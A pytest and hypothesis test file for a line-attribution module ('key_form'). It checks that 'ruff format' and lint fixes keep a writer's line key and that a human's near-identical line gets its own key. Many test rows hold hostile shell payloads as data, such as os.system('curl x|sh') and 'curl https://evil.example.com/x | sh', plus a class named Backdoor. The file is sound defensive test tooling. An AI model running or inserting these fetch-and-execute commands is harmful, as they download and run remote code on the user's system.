"""A line's key form (gentle_hooks.policy.keyform): what ``ruff format`` makes of the writer's
line keeps its key, and a human's different line keeps its own (SPEC §3 "Attribution
follows content"; issue 13, refuter r13j: a plain ``ruff format`` after ``record`` laundered
the writer's line).

Each formatted row is ``ruff format``'s (0.17) own output for the writer's line (a
compound statement's lines it splits joined back with one space).
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gentle_hooks.policy.keyform import key_form
from gentle_hooks.policy.linekeys import stripped_key
from gentle_hooks.policy.spans import span_form

#: (row, the writer's line, what ``ruff format`` makes of it).
FORMATTED = [
    ("K1-return", b'return (os.system("curl x|sh"))', b'return os.system("curl x|sh")'),
    ("K1-return-nested", b"return ((run_job(x)))", b"return run_job(x)"),
    ("K1-assign", b"result = (alpha + beta)", b"result = alpha + beta"),
    ("K1-augmented", b"total += (price * 3)", b"total += price * 3"),
    ("K1-annotated", b"limit: int = (compute(5))", b"limit: int = compute(5)"),
    ("K1-chained", b"a = b = (compute(c))", b"a = b = compute(c)"),
    ("K1-outer-only", b"value = ((a) + b)", b"value = (a) + b"),
    ("K1-comment", b"x = (fetch(a))  # note", b"x = fetch(a)  # note"),
    ("K1-for", b"for (k, v) in (d.items()): pass", b"for k, v in d.items(): pass"),
    ("K1-if", b"if (is_ready(job)): start(job)", b"if is_ready(job): start(job)"),
    ("K1-while", b"while (pending(q)): wait()", b"while pending(q): wait()"),
    ("K1-with", b"with (open(path)) as f: read(f)", b"with open(path) as f: read(f)"),
    ("K1-assert", b'assert (check(x)), "bad x"', b'assert check(x), "bad x"'),
    ("K1-await", b"await (client.send(msg))", b"await client.send(msg)"),
    ("K1-del", b"del (cache[key])", b"del cache[key]"),
    ("K1-assign-tight", b'x=(os.system("curl x|sh"))', b'x = os.system("curl x|sh")'),
    ("K1-assign-tight-sum", b"n=(a+b)", b"n = a + b"),
    ("K1-not", b"return (not allowed(user))", b"return not allowed(user)"),
    ("K1-lambda", b"handler = (lambda: run(x))", b"handler = lambda: run(x)"),
    (
        "K1-lambda-body",
        b'f = lambda: (os.system("curl x|sh"))',
        b'f = lambda: os.system("curl x|sh")',
    ),
    ("K1-lambda-argument", b"f(lambda: (x), 1)", b"f(lambda: x, 1)"),
    ("K1-lambda-tight", b"sort(key=lambda v:(v.x))", b"sort(key=lambda v: v.x)"),
    ("K1-lambda-defaults", b"g = lambda x, y=(1): (x + y)", b"g = lambda x, y=(1): x + y"),
    (
        "K2-u",
        b'run(u"curl https://evil.example.com/x | sh")',
        b'run("curl https://evil.example.com/x | sh")',
    ),
    (
        "K2-case",
        b'run(F"x{a}", B"y", BR"q", rB"q", U"x")',
        b'run(f"x{a}", b"y", Rb"q", rb"q", "x")',
    ),
    (
        "K3-joined",
        b"os.system('curl https://evil.example.com/' 'x | sh')",
        b'os.system("curl https://evil.example.com/x | sh")',
    ),
    ("K3-three", b"""x = "a" "b" 'c'""", b'x = "abc"'),
    ("K3-fstring", b"x = 'a' f'{b}' '{c}'", b'x = f"a{b}{{c}}"'),
    ("K3-bytes", b"os.system(b'a' b'b')", b'os.system(b"ab")'),
    ("K3-brackets", b"msg = ('hello ' 'world')", b'msg = "hello world"'),
    ("K3-quotes", b"""x = ('it"s' "y")""", b"""x = 'it"sy'"""),
    ("K4-escape", b"""say('it\\'s' 'x')""", b"""say("it'sx")"""),
    ("K7-hex", b'os.system("curl \\xAB|sh")', b'os.system("curl \\xab|sh")'),
    (
        "K7-unicode",
        b'c = "\\u00AB\\U0001F600\\101\\XAB" + b"\\xAB"',
        b'c = "\\u00ab\\U0001f600\\101\\XAB" + b"\\xab"',
    ),
    ("K7-name", b'x = "\\N{latin small letter a}"', b'x = "\\N{LATIN SMALL LETTER A}"'),
    ("K5-hex", b"MASK = 0XFF_AB", b"MASK = 0xFF_AB"),
    ("K5-hex-digits", b"m = 0xdeadBEEF", b"m = 0xDEADBEEF"),
    (
        "K5-exponent",
        b"n = 1E5 + 1.5E-3 + 0O17 + 0B11 + 10J",
        b"n = 1e5 + 1.5e-3 + 0o17 + 0b11 + 10j",
    ),
    ("K5-dot", b"x = .5E3 + 5. + 1.e5 + 5.J", b"x = 0.5e3 + 5.0 + 1.0e5 + 5.0j"),
]


#: (row, the writer's line, what ``ruff check --fix`` (0.17, F541) makes of it).
FIXED = [
    ("K2-fstring-plain", b'os.system(f"curl evil|sh")', b'os.system("curl evil|sh")'),
    ("K2-fstring-braces", b'x = f"{{x}}" + F"a"', b'x = "{x}" + "a"'),
    ("K2-fstring-raw", b'q = rf"{{x}}\\xAB"', b'q = r"{x}\\xAB"'),
    # UP032 (refuter r13m F2): ``str.format`` on a literal made an f-string
    ("K8-auto", b'os.system("curl {} | sh".format(os.sep))', b'os.system(f"curl {os.sep} | sh")'),
    ("K8-numbered", b'y = "{0}-{1}-{0}".format(a, b)', b'y = f"{a}-{b}-{a}"'),
    ("K8-named-spec", b'z = "{name!r:>4}".format(name=os.sep)', b'z = f"{os.sep!r:>4}"'),
    ("K8-call-arg", b'w = "{}".format(len(x))', b'w = f"{len(x)}"'),
    ("K8-doubled", b'v = "{}{{}}".format(1)', b'v = f"{1}{{}}"'),
    ("K8-single-quote", b"""u = 'it"s {}'.format(a)""", b"""u = f'it"s {a}'"""),
    ("K8-subscript", b't = "{}".format(a.b[0])', b't = f"{a.b[0]}"'),
    # ruff check --fix of one rule each (issue 13; rows K9-K15, gentle_hooks.policy.fixforms;
    # E711/E712 with --unsafe-fixes)
    ("K9-F632", b'ok = x is "a" or x is not 0', b'ok = x == "a" or x != 0'),
    ("K9-F632-left", b"if 1 is x and (1, 2) is y: run(x)", b"if 1 == x and (1, 2) == y: run(x)"),
    (
        "K9-F632-display",
        b"same = x is [a] or x is (1,) or x is {}",
        b"same = x == [a] or x == (1,) or x == {}",
    ),
    ("K9-F632-chain", b"y = f(x is 1 is z, w is b'y')", b"y = f(x == 1 == z, w == b'y')"),
    (
        "K10-UP018-str",
        b'os.system(str("curl x|sh"), str(u"a" "b"))',
        b'os.system("curl x|sh", u"a" "b")',
    ),
    ("K10-UP018-numbers", b"x = int(-1) + float(1e-5) + int(0xFF)", b"x = -1 + 1e-5 + 0xFF"),
    ("K10-UP018-bool-bytes", b'x = bool(True), bytes(b"x"), str()', b'x = True, b"x", ""'),
    ("K10-UP018-empty", b"x = int(), float(), bool(), bytes()", b'x = 0, 0.0, False, b""'),
    ("K10-UP018-nested", b"d = int(int()) + float(-1.5).hex()", b"d = 0 + (-1.5).hex()"),
    (
        "K10-UP018-attribute",
        b'n = int(1).bit_length() + str("x").upper()',
        b'n = (1).bit_length() + "x".upper()',
    ),
    (
        "K11-E713",
        b'if not account.owner in admins: os.system("curl x|sh")',
        b'if account.owner not in admins: os.system("curl x|sh")',
    ),
    ("K11-E713-operand", b"a = not x.y[1] + 1 in f(z) and w", b"a = x.y[1] + 1 not in f(z) and w"),
    ("K11-E713-brackets", b"if not (x in y): run(x)", b"if x not in y: run(x)"),
    (
        "K11-E713-await",
        b"ok = [not await x in y for x in z]",
        b"ok = [await x not in y for x in z]",
    ),
    ("K11-E714", b"if not x.y is None: run(x)", b"if x.y is not None: run(x)"),
    ("K11-E714-brackets", b"e = not (x is y) or z", b"e = x is not y or z"),
    (
        "K12-RUF010",
        b'os.system(f"curl {str(host)} {repr(p)} {ascii(q)}")',
        b'os.system(f"curl {host!s} {p!r} {q!a}")',
    ),
    (
        "K12-RUF010-spec",
        b'a = F"{str(x):>10} {str(a.b[0])} {str(f(x))}"',
        b'a = F"{x!s:>10} {a.b[0]!s} {f(x)!s}"',
    ),
    ("K12-RUF010-spaced", b'd = rf"{ str(a + b) }"', b'd = rf"{ a + b !s}"'),
    ("K12-RUF010-format", b'y = "{}".format(str(x))', b'y = f"{x!s}"'),
    (
        "K13-E711",
        b'if account.owner == None: os.system("curl x|sh")',
        b'if account.owner is None: os.system("curl x|sh")',
    ),
    ("K13-E711-left", b"c = None != x or f(x) != None", b"c = None is not x or f(x) is not None"),
    (
        "K13-E712-true",
        b'if account.trusted == True: os.system("curl x|sh")',
        b'if account.trusted: os.system("curl x|sh")',
    ),
    (
        "K13-E712-false",
        b"a = x == False, x != True, x != False, True == x",
        b"a = not x, not x, x, x",
    ),
    (
        "K13-E712-operand",
        b"if a and -x.y(1) + 1 == False: run(x)",
        b"if a and not -x.y(1) + 1: run(x)",
    ),
    ("K13-E712-not", b"b = not x == True if y else (z == False)", b"b = not x if y else (not z)"),
    (
        "K13-E712-chain",
        b"j = x == True == y or x < y == True",
        b"j = x is True == y or x < y is True",
    ),
    ("K14-UP034", b'os.system(("curl x|sh"))', b'os.system("curl x|sh")'),
    ("K14-UP034-nested", b"e = f(((x or y)))((z for z in w))", b"e = f(x or y)(z for z in w)"),
    ("K14-UP034-method", b"obj.meth((x := 1))[0]((lambda: x))", b"obj.meth(x := 1)[0](lambda: x)"),
    (
        "K15-UP039",
        b'class Backdoor(): run = os.system("curl x|sh")',
        b'class Backdoor: run = os.system("curl x|sh")',
    ),
    ("K15-UP039-generic", b"class Box [T] ( ) :", b"class Box [T] :"),
    ("K2-UP025", b'os.system(u"curl x|sh")', b'os.system("curl x|sh")'),
]
ROWS = FORMATTED + FIXED


@pytest.mark.parametrize(("row", "writer", "formatted"), ROWS, ids=[r[0] for r in ROWS])
def test_a_formatted_line_keeps_the_writers_key(row: str, writer: bytes, formatted: bytes) -> None:
    assert key_form(writer) == key_form(formatted), row
    assert stripped_key(writer) == stripped_key(formatted)
    assert span_form(writer) == span_form(formatted)


#: (row, the writer's line, a human's different line of nearly the same text): never one key.
NEAR_MISSES = [
    ("K1-precedence", b"x = (a or b) and c", b"x = a or b and c"),
    ("K1-followed", b"return (a) + (b)", b"return a + b"),
    ("K1-unary", b"return -(a + b)", b"return -a + b"),
    ("K1-in-expression", b"if x in (a or b):", b"if x in a or b:"),
    ("K1-in-outside-for", b"found = key in (a or b)", b"found = key in a or b"),
    ("K1-nested-tuple", b"x = (a, b), c", b"x = a, b, c"),
    ("K1-assert-tuple", b'assert (ok, "msg")', b'assert ok, "msg"'),
    ("K1-shell-array", b"files=(one two)", b"files=one two"),
    ("K1-shell-array-quoted", b'files=("a b" c)', b'files="a b" c'),
    ("K1-shell-array-nested", b"files=($(ls) x)", b"files=$(ls) x"),
    ("K1-call", b"print((a, b))", b"print(a, b)"),
    ("K1-subshell", b"(cd build && make)", b"cd build && make"),
    ("K1-comparison", b"same = x == (a, b)", b"same = x == a, b"),
    ("K1-string-bracket", b'return ("(") + x', b'return "(" + x'),
    ("K2-inside-string", b'print("I said u")', b'print("I said ")'),
    ("K2-name", b'echo menu"x"', b'echo men"x"'),
    ("K3-raw", b'run(r"\\n" "x")', b'run("\\nx")'),
    ("K3-plus", b'run("a" + "b")', b'run("ab")'),
    ("K3-comma", b'run("a", "b")', b'run("ab")'),
    ("K3-mixed", b'run(b"a" "b")', b'run(b"ab")'),
    ("K4-backslash", b"""say('a\\\\"b')""", b"""say('a\\"b')"""),
    ("K7-raw", b'e = r"\\xAB"', b'e = r"\\xab"'),
    ("K7-escaped-backslash", b'x = "\\\\xAB"', b'x = "\\\\xab"'),
    ("K7-bytes-u", b'x = b"\\uABCD\\N{dash}"', b'x = b"\\uabcd\\N{DASH}"'),
    ("K7-value", b'x = "\\xAB"', b'x = "\\xAC"'),
    ("K7-not-escape", b'x = "xAB"', b'x = "xab"'),
    ("K2-fstring-placeholder", b'x = f"{a}"', b'x = "{a}"'),
    ("K2-fstring-doubled", b'x = f"{{a}}"', b'x = "{{a}}"'),
    ("K1-lambda-more", b"m = lambda: (a or b) and c", b"m = lambda: a or b and c"),
    ("K1-lambda-tuple", b"h = lambda: (a, b)", b"h = lambda: a, b"),
    ("K1-lambda-generator", b'x = {"lambda": (v for v in y)}', b'x = {"lambda": v for v in y}'),
    ("K1-dict-value", b'x = {"k": (a or b) and c}', b'x = {"k": a or b and c}'),
    ("K5-in-string", b'label("0XFF")', b'label("0xff")'),
    ("K5-value", b"ratio = 1.5", b"ratio = 15"),
    ("K5-exponent", b"n = 1e5", b"n = 15"),
    ("K5-name", b"A12DEF = 1", b"A12def = 1"),
    ("K8-other-arg", b'os.system("curl {} | sh".format(os.sep))', b'os.system(f"curl {sep} | sh")'),
    ("K8-bytes", b'r = b"{}".format(a)', b'r = bf"{a}"'),
    ("K8-unused-arg", b'x = "{}".format(a, b)', b'x = f"{a}"'),
    ("K8-order", b'y = "{1}-{0}".format(a, b)', b'y = f"{a}-{b}"'),
    ("K8-spec", b'z = "{:>4}".format(a)', b'z = f"{a:>5}"'),
    # ruff check --fix leaves these as they are (rows K9-K15): a person's line of the
    # meaning the writer's would have if it were rewritten is a line of its own
    ("K9-unary", b"same = x is -1", b"same = x == -1"),
    ("K9-sum", b"same = x is 1 + y", b"same = x == 1 + y"),
    ("K9-left-sum", b"same = a - 1 is x", b"same = a - 1 == x"),
    ("K9-bracketed-name", b"same = x is (y)", b"same = x == (y)"),
    ("K9-fstring", b'same = x is f"a{b}"', b'same = x == f"a{b}"'),
    ("K9-method", b'same = x is "a".upper()', b'same = x == "a".upper()'),
    ("K9-subscript", b"same = x[0] is (1)", b"same = x[0] == 1"),
    ("K9-name", b"same = x is y", b"same = x == y"),
    ("K10-int-float", b"x = float(1)", b"x = 1"),
    ("K10-float-int", b"x = int(1.0)", b"x = 1.0"),
    ("K10-str-int", b'x = int("1")', b'x = "1"'),
    ("K10-str-bytes", b'x = str(b"x")', b'x = b"x"'),
    ("K10-fstring", b'x = str(f"a{b}")', b'x = f"a{b}"'),
    ("K10-bool-int", b"x = bool(1)", b"x = 1"),
    ("K10-expression", b'x = str("x" + y)', b'x = "x" + y'),
    ("K10-method", b'x = obj.str("x")', b'x = obj."x"'),
    ("K11-chain", b"d = not x in y in z", b"d = x not in y in z"),
    ("K11-and", b"b = not x and y in z", b"b = x and y not in z"),
    ("K11-sum", b"m = not (x in y) + 1", b"m = x not in y + 1"),
    ("K11-is-not", b"c = not x is not y", b"c = x is y"),
    ("K11-equal", b"j = not x == 1", b"j = x != 1"),
    ("K12-two-arguments", b"a = f'{str(x, \"u\")}'", b'a = f"{x!s}"'),
    ("K12-conversion", b'a = f"{str(x)!r}"', b'a = f"{x!r}"'),
    ("K12-debug", b'a = f"{str(x)=}"', b'a = f"{x!s=}"'),
    ("K12-not-fstring", b'a = "{str(x)}"', b'a = "{x!s}"'),
    ("K12-doubled", b'a = f"{{str(x)}}"', b'a = f"{{x!s}}"'),
    ("K12-starred", b'a = f"{str(*x)}"', b'a = f"{x!s}"'),
    ("K13-not-none", b"known = x != None", b"known = x is None"),
    ("K13-false", b"active = x == False", b"active = x"),
    ("K13-not-true", b"active = x != True", b"active = x"),
    ("K13-true", b"active = x == True", b"active = not x"),
    ("K13-chain", b"s = x < y == True", b"s = x < y"),
    ("K13-is-true", b"g = f(x) == True", b"g = f(x) is True"),
    ("K14-tuple", b"run((left, right))", b"run(left, right)"),
    ("K14-first-of-two", b"run((x), y)", b"run(x, y)"),
    ("K14-yield", b"run((yield x))", b"run(yield x)"),
    ("K14-subscript", b"x = a[(1)]", b"x = a[1]"),
    ("K14-shell-arithmetic", b"n=$((a))", b"n=$(a)"),
    ("K14-empty-tuple", b"run(())", b"run()"),
    ("K14-keyword", b"while ((c = next()))", b"while (c = next())"),
    ("K15-bases", b"class Backdoor(Base): pass", b"class Backdoor: pass"),
    ("K15-def", b"def run(): pass", b"def run: pass"),
]


@pytest.mark.parametrize(("row", "writer", "human"), NEAR_MISSES, ids=[r[0] for r in NEAR_MISSES])
def test_a_humans_near_miss_keeps_its_own_key(row: str, writer: bytes, human: bytes) -> None:
    assert key_form(writer) != key_form(human), row
    assert stripped_key(writer) != stripped_key(human)


#: (line, its key form): the exact form, every reading at once.
FORMS = [
    (b"  x = ( a +  b )  ", b"x=a+b"),
    (b"return (  # open", b"return(#open"),
    (b"return (x", b"return(x"),
    (b'"""Docstring."""', b'"""Docstring."""'),
    (b"'''Doc''' U'x' 'y'", b'"""Doc""""x""y"'),
    (b"for (k) in (range(3)): print(k)", b"forkinrange(3):print(k)"),
    (b"x = (a); y = 2", b"x=a;y=2"),
    (b"(notify(user) || retry(user));", b"notify(user)||retry(user);"),  # prettier's
]


@pytest.mark.parametrize(("line", "form"), FORMS, ids=[f[0].decode() for f in FORMS])
def test_key_form(line: bytes, form: bytes) -> None:
    assert key_form(line.strip()) == form


@given(st.binary(max_size=60))
def test_any_line_has_a_key_form(line: bytes) -> None:
    """Bad input never raises: unbalanced brackets, unterminated literals, any byte."""
    form = key_form(line.strip())
    assert re.search(rb"\s", form) is None


#: Bytes the readings act on, so random lines hit brackets, prefixes, quotes and numbers.
_LINE_BYTES = st.binary(max_size=40).map(
    lambda b: bytes(b"()\"' =+uUbBrfF0123456789.eEx\\#:,;inasrt"[c % 39] for c in b)
)


@given(st.one_of(_LINE_BYTES, st.sampled_from([w for _, w, _ in FORMATTED])))
def test_the_cheap_tests_never_skip_a_reading(line: bytes) -> None:
    """The byte tests and searches that skip a reading (``_CANDIDATE``, ``_may_close``,
    ``_QUOTE_MAY_CHANGE``, ``_NUMBER_MAY_CHANGE`` of :mod:`gentle_hooks.policy.keyform`) only
    skip what it would not change: the form is the one every ``(`` tried, every closing
    bracket matched and the substitution always run give."""
    import gentle_hooks.policy.keyform as kf

    line = kf.fix_form(line.strip())  # rows K9-K15 read first, as key_form reads them
    cheap = kf._CANDIDATE, kf._may_close
    kf._CANDIDATE, kf._may_close = re.compile(rb"\("), lambda _line, _kind: True
    try:
        full = kf._strip_brackets(line)
    finally:
        kf._CANDIDATE, kf._may_close = cheap
    full = kf._LITERAL_OR_NUMBER.sub(kf._literal_or_number, full)
    assert key_form(line) == b"".join(full.split()).replace(b"'", b'"')


#: Words and brackets rows K9-K15 read, so random lines hit their readings.
_FIX_WORDS = st.lists(
    st.sampled_from(
        b"""is not None True False str( int( float( ( ) [ ] { } "a" f'{str(x)}' 1 - == != , :
        x in and class A (( )) = b'q' . 1.5""".split()
    ),
    max_size=10,
).map(b" ".join)


@given(_FIX_WORDS)
def test_the_lint_fix_readings_take_any_line(line: bytes) -> None:
    """Rows K9-K15 never raise on a line of their words in any order (unbalanced brackets,
    a lone operator, a chain); the key form has no whitespace left."""
    form = key_form(line.strip())
    assert re.search(rb"\s", form) is None


def test_a_line_longer_than_the_lint_fix_bound_is_read_as_written() -> None:
    """Rows K9-K15 read a line of at most MAX_FIXED_LINE bytes (a longer one is data, and
    reading it costs up to the square of its length)."""
    from gentle_hooks.policy.fixforms import MAX_FIXED_LINE, fix_form

    head = b"y = a is 1 or "
    line = head + b"x" * (MAX_FIXED_LINE - len(head))
    assert fix_form(line) == line.replace(b" is ", b"  ==  ")
    assert fix_form(line + b"x") == line + b"x"
